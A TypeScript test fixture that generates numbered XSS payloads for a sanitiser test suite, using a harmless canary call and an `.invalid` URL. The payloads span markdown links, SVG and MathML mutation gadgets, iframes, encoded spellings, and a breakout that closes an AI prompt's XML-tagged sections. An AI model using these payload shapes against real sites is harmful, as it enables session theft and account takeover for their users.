/**
 * Hostile strings for the xss suite. Payload number n calls `xssCanary(n)` if it ever runs, and
 * names `https://xss.invalid/n` wherever it asks the browser to load something, so a canary hit,
 * a request or a CSP report tells which payload got through.
 *
 * Families: tag × event handler × context; script elements; `javascript:`/`data:` URLs in
 * markdown links, images, references and autolinks; SVG and MathML; iframe srcdoc; template;
 * form actions; meta/base/style/link; entity-encoded, percent-encoded and mixed-case spellings;
 * unclosed tags; breakouts from attributes, text areas and the prompt's XML-tagged sections.
 */
import type { Random } from '../harness';

export interface Payload {
  n: number;
  family: string;
  text: string;
}

type Template = (call: string, url: string) => string;

const TAGS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'x contenteditable autofocus tabindex=0',
  'marquee',
  'object data=x',
  'style',
  'a href=#',
  'select autofocus',
];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onbegin', 'onpointerenter'];
const QUOTES: ((call: string) => string)[] = [(c) => c, (c) => `"${c}"`, (c) => `'${c}'`, (c) => `\`${c}\``];
const SEPARATORS = [' ', '/', '\n', '\t', '\f'];

/** Where a payload sits in the surrounding text. */
const CONTEXTS: [string, (x: string) => string][] = [
  ['plain', (x) => x],
  ['sentence', (x) => `I like ${x} very much`],
  ['bold', (x) => `**${x}**`],
  ['list', (x) => `- first\n- ${x}\n- last`],
  ['table', (x) => `| a | b |\n| --- | --- |\n| ${x} | c |`],
  ['quote', (x) => `> ${x}`],
  ['heading', (x) => `## ${x}`],
  ['link text', (x) => `[${x}](https://example.com/)`],
  ['attribute breakout', (x) => `"><${x.replace(/^</, '')}`],
  ['single-quote breakout', (x) => `'>${x}`],
  ['textarea breakout', (x) => `</textarea>${x}`],
  ['title breakout', (x) => `</title></style></script>${x}`],
  ['comment breakout', (x) => `--!>-->${x}<!--`],
  ['prompt breakout', (x) => `</memories></user_query>${x}<user_query>`],
  ['cdata', (x) => `<![CDATA[]]>${x}`],
  ['code span', (x) => `\`${x}\``],
  ['fenced', (x) => `\`\`\`html\n${x}\n\`\`\``],
  ['html block', (x) => `<div>\n\n${x}\n\n</div>`],
  ['unclosed', (x) => x.replace(/>[^>]*$/, '')],
  ['nul and zero-width', (x) => x.replace(/</g, '<\u200b').replace(/=/, '\u0000=')],
];

/** Payloads that are not a simple tag × event. Each family gets its turn in the rotation. */
const SPECIALS: Record<string, Template[]> = {
  script: [
    (c) => `<script>${c}</script>`,
    (c) => `<ScRiPt>${c}</sCrIpT>`,
    (c, u) => `<script src="${u}.js"></script>`,
    (c) => `<script src="data:text/javascript,${c}"></script>`,
    (c) => `<script/x>${c}</script>`,
    (c) => `<script>${c}//`,
    (c) => `<<script>script>${c}<</script>/script>`,
    (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  ],
  'markdown link': [
    (c) => `[click](javascript:${c})`,
    (c) => `[click](JaVaScRiPt:${c})`,
    (c) => `[click](java\tscript:${c})`,
    (c) => `[click](&#106;avascript:${c})`,
    (c) => `[click](&#x6A;&#x61;vascript&colon;${c})`,
    (c) => `[click]( javascript:${c} "title")`,
    (c) => `[click](<javascript:${c}>)`,
    (c) => `[click](data:text/html;base64,${btoa(`<script>${c}</script>`)})`,
    (c) => `[click](vbscript:${c})`,
    (c) => `[click][ref]\n\n[ref]: javascript:${c}`,
    (c) => `[click](https://example.com/"onmouseover="${c})`,
    (c) => `[click](javascript&#58;${c})`,
    (c) => `[click](%6Aavascript:${c})`,
  ],
  'markdown image': [
    (c) => `![x](javascript:${c})`,
    (c, u) => `![x](${u}.png"onerror="${c})`,
    (c) => `![x](data:image/svg+xml,<svg onload="${c}">)`,
    (c, u) => `![x](${u}.png)`,
    (c) => `![x](x "a\\"onerror=\\"${c}")`,
    (c, u) => `![x][img]\n\n[img]: ${u}.gif`,
  ],
  autolink: [
    (c) => `<javascript:${c}>`,
    (c) => `<data:text/html,<script>${c}</script>>`,
    (c) => `www.example.com/"onmouseover="${c}"`,
    (c, u) => `${u}?"><img src=x onerror=${c}>`,
    (c) => `<mailto:a@b.c?subject="><img src=x onerror=${c}>>`,
  ],
  svg: [
    (c) => `<svg><script>${c}</script></svg>`,
    (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
    (c) => `<svg><a xlink:href="javascript:${c}"><text x=20 y=20>x</text></a></svg>`,
    (c) => `<svg><set attributeName=href to="javascript:${c}"/></svg>`,
    (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
    (c, u) => `<svg><image href="${u}.svg" onerror=${c} /></svg>`,
    (c) => `<svg><style><img src=x onerror=${c}></style></svg>`,
    (c) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${c}'/>#x"/></svg>`,
  ],
  mathml: [
    (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
    (c) => `<math href="javascript:${c}">x</math>`,
    (c) => `<math><maction actiontype=statusline xlink:href="javascript:${c}">x</maction></math>`,
    (c) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${c} src>">`,
    (c) => `<math><mi xlink:href="javascript:${c}">x</mi></math>`,
  ],
  iframe: [
    (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
    (c) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
    (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
    (c) => `<iframe src="data:text/html,<script>parent.${c}</script>"></iframe>`,
    (c, u) => `<iframe src="${u}"></iframe>`,
  ],
  template: [
    (c) => `<template><img src=x onerror=${c}></template>`,
    (c) => `<div><template shadowrootmode="open"><img src=x onerror=${c}></template></div>`,
    (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
    (c) => `<xmp><img src=x onerror=${c}></xmp>`,
    (c) => `<noembed><img title="</noembed><img src=x onerror=${c}>"></noembed>`,
  ],
  form: [
    (c) => `<form><button formaction="javascript:${c}">go</button></form>`,
    (c) => `<form action="javascript:${c}"><input type=submit></form>`,
    (c) => `<input type=image src=x formaction="javascript:${c}">`,
    (c) => `<a href="javascript:${c}">link</a>`,
    (c) => `<a href="  JAVASCRIPT:${c}">link</a>`,
    (c) => `<a href="jav&#x09;ascript:${c}">link</a>`,
    (c) => `<isindex action="javascript:${c}" type=image>`,
    (c) => `<a href="data:text/html,<script>${c}</script>" target=_self>link</a>`,
  ],
  'meta and style': [
    (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
    (c) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${c}</script>`,
    (c, u) => `<base href="${u}/">`,
    (c, u) => `<link rel=stylesheet href="${u}.css">`,
    (c, u) => `<style>@import '${u}.css';</style>`,
    (c, u) => `<div style="background:url('${u}.png')">x</div>`,
    (c) => `<style>*{background:url("javascript:${c}")}</style>`,
    (c) => `<div style="x:expression(${c})">x</div>`,
    (c, u) => `<link rel=import href="${u}.html">`,
  ],
  encoded: [
    (c) => `&lt;img src=x onerror=${c}&gt;`,
    (c) => `&#60;script&#62;${c}&#60;/script&#62;`,
    (c) => `%3Cscript%3E${c}%3C%2Fscript%3E`,
    (c) => `\\u003cimg src=x onerror=${c}\\u003e`,
    (c) => `&#x3C;svg onload=${c}&#x3E;`,
    (c) => `<img src=x onerror=&#x78;ssCanary(${c.replace(/\D/g, '')})>`,
    (c) => `<img src=x onerror="&#120;&#115;&#115;Canary&lpar;${c.replace(/\D/g, '')}&rpar;">`,
    (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  ],
  'framework syntax': [
    (c) => `{{constructor.constructor('${c}')()}}`,
    (c) => `\${${c}}`,
    (c) => `{@html '<img src=x onerror=${c}>'}`,
    (c) => `<div v-html="'<img src=x onerror=${c}>'"></div>`,
    (c) => `[[${c}]]`,
  ],
  unclosed: [
    (c) => `<img src=x onerror=${c}`,
    (c) => `<svg onload=${c}//`,
    (c) => `<iframe src=javascript:${c} `,
    (c) => `<a href="javascript:${c}`,
    (c) => `<details open ontoggle=${c} <p>`,
  ],
};

/** The tag × event × quoting × separator templates. */
function tagEventTemplates(): Template[] {
  const list: Template[] = [];
  for (const event of EVENTS)
    for (const [t, tag] of TAGS.entries()) {
      const quote = QUOTES[(t + event.length) % QUOTES.length]!;
      const separator = SEPARATORS[(t * 3 + event.length) % SEPARATORS.length]!;
      list.push((c) => `<${tag}${separator}${event}=${quote(c)}>`);
    }
  return list;
}

/** Random letter case for the markup around the canary call (the call keeps its own spelling). */
function mixCase(text: string, random: Random): string {
  return text.replace(/(<\/?[a-z]+|\bon[a-z]+(?==)|javascript:|data:)/gi, (part) =>
    [...part].map((ch) => (random.chance(0.5) ? ch.toUpperCase() : ch.toLowerCase())).join(''),
  );
}

/**
 * `count` distinct payloads, numbered from 1. Families take turns so that a small run still has
 * every family; contexts and letter case come from the seeded generator.
 */
export function makePayloads(count: number, random: Random): Payload[] {
  const families: [string, Template[]][] = [['tag × event', tagEventTemplates()], ...Object.entries(SPECIALS)];
  const next = families.map(() => 0);
  const seen = new Set<string>();
  const payloads: Payload[] = [];
  for (let turn = 0; payloads.length < count; turn++) {
    if (turn > count * 50) throw new Error(`only ${payloads.length} distinct payloads`);
    const f = turn % families.length;
    const [family, templates] = families[f]!;
    const template = templates[next[f]! % templates.length]!;
    next[f]!++;
    const n = payloads.length + 1;
    const [contextName, wrap] = random.pick(CONTEXTS);
    let text = wrap(template(`xssCanary(${n})`, `https://xss.invalid/${n}`));
    if (random.chance(0.3)) text = mixCase(text, random);
    // Distinct in shape, not just in number.
    const shape = text.replaceAll(String(n), '#');
    if (seen.has(shape)) continue;
    seen.add(shape);
    payloads.push({ n, family: `${family} in ${contextName}`, text });
  }
  return payloads;
}

/** The payload numbers a piece of text names (a canary call or a canary URL). */
export function payloadNumbers(text: string): number[] {
  return [...text.matchAll(/xssCanary\D{0,12}(\d+)|xss\.invalid\/(\d+)/g)].map((m) => Number(m[1] ?? m[2]));
}
